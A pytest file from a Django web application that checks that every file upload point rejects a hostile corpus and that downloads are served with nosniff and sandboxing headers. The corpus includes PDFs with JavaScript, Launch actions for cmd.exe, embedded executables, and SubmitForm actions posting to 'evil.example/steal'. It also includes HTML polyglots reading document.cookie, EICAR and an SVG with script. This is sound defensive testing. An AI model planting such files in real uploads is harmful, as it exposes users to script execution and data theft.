"""Issue 10.1: every upload point runs the same content check, and every stored file is served the same way.

- The registry (core.files.UPLOAD_POINTS) covers every FileField of every model and form: a new upload
  field that is not registered makes this test fail.
- One hostile corpus (JavaScript, launch, embedded files, XFA, URI and SubmitForm actions, encryption,
  HTML polyglots, EICAR, executables, SVG) is refused by every point; an ordinary file of the point's
  type is still accepted, so the check does not simply refuse everything.
- The decree upload of the innovation profile (which used to check only "%PDF-" and the size) refuses
  the corpus through its page and stores nothing.
- Downloads go through core.files.file_response: images inline under a sandboxing CSP, everything else
  as an attachment, always nosniff.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django import forms
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import get_resolver, reverse
from django.utils.translation import override
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from labinov.core import files

from .test_evidence_files import _document_script, _open_action, _pdf, _pdf_with_object_stream, _png, _set_root

SRC = Path(files.__file__).resolve().parents[1]
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _uri_link(writer):
    """A link annotation on the page whose action opens a web address."""
    action = DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("http://evil.example/")})
    link = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                             NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 100)]), NameObject("/A"): action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def _xfa(writer):
    _set_root("/AcroForm", DictionaryObject({NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}))(writer)


def _with_comment(data: bytes, comment: bytes) -> bytes:
    """A PDF with a comment line right after its header (what a polyglot hides there)."""
    first_line_end = data.index(b"\n") + 1
    return data[:first_line_end] + b"%" + comment + b"\n" + data[first_line_end:]


def hostile_corpus() -> dict[str, bytes]:
    """Files every upload point must refuse, made at test time."""
    plain = _pdf()
    return {
        "pdf-javascript-openaction": _pdf(_open_action("/JavaScript", JS="app.alert(1)")),
        "pdf-javascript-document": _pdf(_document_script),
        "pdf-javascript-object-stream": _pdf_with_object_stream(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "pdf-launch": _pdf(_open_action("/Launch", F="cmd.exe")),
        "pdf-embedded-file": _pdf(lambda w: w.add_attachment("virus.exe", b"MZ\x90\x00")),
        "pdf-xfa": _pdf(_xfa),
        "pdf-uri-link": _pdf(_uri_link),
        "pdf-uri-openaction": _pdf(_open_action("/URI", URI="http://evil.example/")),
        "pdf-uri-object-stream": _pdf_with_object_stream(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
        "pdf-submitform": _pdf(_open_action("/SubmitForm", F="http://evil.example/steal")),
        "pdf-encrypted": _pdf(password="rahasia"),
        "polyglot-html-before-pdf": b"<html><body><script>alert(1)</script></body></html>\n" + plain,
        "polyglot-html-in-pdf-header": _with_comment(plain, b"<script>alert(document.cookie)</script>"),
        "polyglot-html-after-pdf": plain + b"\n<html><body><script>alert(1)</script></body></html>\n",
        "eicar": EICAR,
        "eicar-in-pdf": plain + b"\n%" + EICAR + b"\n",
        "executable": b"MZ\x90\x00\x03" + b"\0" * 200,
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    }


def _xlsx() -> bytes:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


#: an ordinary file each point accepts
ORDINARY = {"innovation_decree": ("sk.pdf", _pdf), "progress_evidence": ("bukti.pdf", _pdf), "signed_commitment": ("ttd.pdf", _pdf),
            "pemda_logo": ("logo.png", _png), "unit_import": ("unit.xlsx", _xlsx), "idea_import": ("ide.xlsx", _xlsx)}


# --------------------------------------------------------------------------- the registry covers every upload field


def _model_file_fields() -> set[str]:
    return {f"{model._meta.app_label}.{model.__name__}.{field.name}"
            for model in apps.get_models() for field in model._meta.get_fields() if isinstance(field, models.FileField)}


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def _form_file_fields() -> set[str]:
    get_resolver().reverse_dict  # noqa: B018 - imports every view module, and with them every form
    import labinov.api.api  # noqa: F401 - the API's modules too

    return {f"{form.__module__}.{form.__qualname__}.{name}"
            for form in set(_subclasses(forms.BaseForm)) if form.__module__.startswith("labinov.")
            for name, field in form.base_fields.items() if isinstance(field, forms.FileField)}


def test_every_file_field_of_every_model_and_form_is_a_registered_upload_point():
    registered = {f for point in files.UPLOAD_POINTS.values() for f in point.fields}
    model_fields, form_fields = _model_file_fields(), _form_file_fields()
    assert model_fields and form_fields  # the enumeration found something
    assert model_fields - registered - files.GENERATED_FILE_FIELDS == set(), "register these in core.files.UPLOAD_POINTS"
    assert form_fields - registered == set(), "register these in core.files.UPLOAD_POINTS"
    assert registered - model_fields - form_fields == set(), "registered fields that no longer exist"


def test_the_upload_points_call_their_registered_check():
    """The services go through check_upload (or the registered function itself)."""
    from labinov.core import xlsx
    from labinov.ideas import transfer
    from labinov.regions import unit_import

    sources = {path: (SRC / path).read_text() for path in ("innovations/services.py", "delivery/commitments.py",
                                                           "regions/services.py", "delivery/monitoring.py")}
    assert 'check_upload("innovation_decree"' in sources["innovations/services.py"]
    assert 'check_upload("signed_commitment"' in sources["delivery/commitments.py"]
    assert 'check_upload("pemda_logo"' in sources["regions/services.py"]
    assert files.UPLOAD_POINTS["progress_evidence"].check is files.clean_evidence and "clean_evidence(" in sources["delivery/monitoring.py"]
    assert transfer.check_archive is xlsx.check_archive and unit_import.check_archive is xlsx.check_archive


# --------------------------------------------------------------------------- one hostile corpus against every point


@pytest.mark.parametrize("point", sorted(files.UPLOAD_POINTS))
@pytest.mark.parametrize("sample", sorted(hostile_corpus()))
def test_every_upload_point_refuses_the_hostile_corpus(point, sample, settings):
    content = hostile_corpus()[sample]
    name = "berkas.xlsx" if point.endswith("_import") else ("logo.png" if point == "pemda_logo" else "berkas.pdf")
    with override("en"), pytest.raises(ValidationError):
        files.check_upload(point, SimpleUploadedFile(name, content), field="file")


@pytest.mark.parametrize("point", sorted(files.UPLOAD_POINTS))
def test_every_upload_point_still_takes_an_ordinary_file(point):
    name, make = ORDINARY[point]
    assert files.check_upload(point, SimpleUploadedFile(name, make()), field="file") is not None


@pytest.mark.parametrize("sample, message", [
    ("pdf-uri-link", "The PDF contains web links (URI actions), which is not accepted."),
    ("pdf-uri-object-stream", "The PDF contains web links (URI actions), which is not accepted."),
    ("pdf-submitform", "The PDF contains a form that sends or loads data (SubmitForm), which is not accepted."),
    ("polyglot-html-in-pdf-header", "The PDF also contains a web page (HTML), which is not accepted."),
    ("polyglot-html-after-pdf", "The PDF also contains a web page (HTML), which is not accepted."),
    ("eicar-in-pdf", "The file carries the EICAR anti-virus test signature"),
    ("eicar", "The file carries the EICAR anti-virus test signature"),
])
def test_the_new_refusals_say_why(sample, message):
    with override("en"), pytest.raises(ValidationError) as caught:
        files.check_upload("progress_evidence", SimpleUploadedFile("bukti.pdf", hostile_corpus()[sample]), field="file")
    assert caught.value.message_dict["file"][0].startswith(message)


def test_a_uri_name_inside_compressed_image_data_is_not_mistaken_for_a_link():
    """/URI is looked for outside stream data only (like /JS): random compressed bytes must not refuse a scan."""
    noise = b"<< /Length 20 /Filter /FlateDecode >>\nstream\n\x00/URI (x)\x01\nendstream"
    assert files._pdf_active_content(noise) is None
    assert files._pdf_active_content(b"<< /S /URI /URI (http://x) >>") == "URI"


# --------------------------------------------------------------------------- the decree page


@pytest.fixture
def design(world):
    from labinov.innovations.models import Innovation

    w = world
    w.program.stage = "design"
    w.program.save(update_fields=["stage"])
    from labinov.ideas.models import Screening
    from django.utils import timezone

    Screening.objects.create(program=w.program, published_at=timezone.now())
    w.innovation = Innovation.objects.create(pemda=w.own, program=w.program, unit=w.kel, name="Surat pengantar online",
                                             form="pelayanan_publik", urusan=["adminduk"])
    return w


def _post_decree(client, w, content: bytes):
    url = reverse("profile_edit", kwargs={"pemda": w.own.slug, "innovation": w.innovation.pk})
    page = client.get(url)
    token = page.context["form"]["submission_token"].value()
    return client.post(url, {"submission_token": token, "iid_stage": "inisiatif", "team": "0",
                             "decree_file": SimpleUploadedFile("sk.pdf", content, content_type="application/pdf")},
                       HTTP_ACCEPT_LANGUAGE="en")


@pytest.mark.django_db
@pytest.mark.parametrize("sample", ["pdf-javascript-openaction", "pdf-launch", "pdf-embedded-file", "pdf-xfa", "pdf-uri-link",
                                    "pdf-submitform", "pdf-encrypted", "polyglot-html-in-pdf-header", "eicar-in-pdf"])
def test_the_decree_page_refuses_a_hostile_pdf_and_stores_nothing(design, client, sample, tmp_path, settings):
    from labinov.innovations.models import InnovationProfile

    settings.MEDIA_ROOT = tmp_path
    client.force_login(design.users["innovator"])
    r = _post_decree(client, design, hostile_corpus()[sample])
    assert r.status_code == 200 and 'id="id_decree_file_error"' in r.content.decode()
    assert not InnovationProfile.objects.exclude(decree_file="").exists()
    assert not list(tmp_path.rglob("*.pdf"))


@pytest.mark.django_db
def test_the_decree_is_stored_as_checked_and_downloaded_as_an_attachment(design, client, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(design.users["innovator"])
    content = _pdf()
    assert _post_decree(client, design, content).status_code == 302
    r = client.get(reverse("profile_decree", kwargs={"pemda": design.own.slug, "innovation": design.innovation.pk}))
    assert b"".join(r.streaming_content) == content
    assert r["Content-Disposition"].startswith("attachment;") and r["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in r["Content-Security-Policy"]


# --------------------------------------------------------------------------- serving files


def test_every_download_view_goes_through_file_response():
    offenders = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                 if p.name != "files.py" and re.search(r"\bFileResponse\s*\(", p.read_text())]
    assert offenders == [], "serve stored files with labinov.core.files.file_response"


@pytest.mark.parametrize("content_type, inline, disposition, csp", [
    ("image/png", True, "inline", files.INLINE_CSP),
    ("image/jpeg", True, "inline", files.INLINE_CSP),
    ("application/pdf", True, "attachment", files.ATTACHMENT_CSP),  # Chrome's viewer does not run sandboxed: download it
    ("text/html", True, "attachment", files.ATTACHMENT_CSP),
    ("image/png", False, "attachment", files.ATTACHMENT_CSP),
    ("application/zip", False, "attachment", files.ATTACHMENT_CSP),
])
def test_file_response_is_inline_only_for_images_and_always_nosniff(content_type, inline, disposition, csp):
    r = files.file_response(io.BytesIO(b"x"), content_type=content_type, filename="f.bin", inline=inline)
    assert r["Content-Disposition"].split(";")[0] == disposition
    assert r["X-Content-Type-Options"] == "nosniff" and r["Content-Security-Policy"] == csp
    assert "sandbox" in r["Content-Security-Policy"]
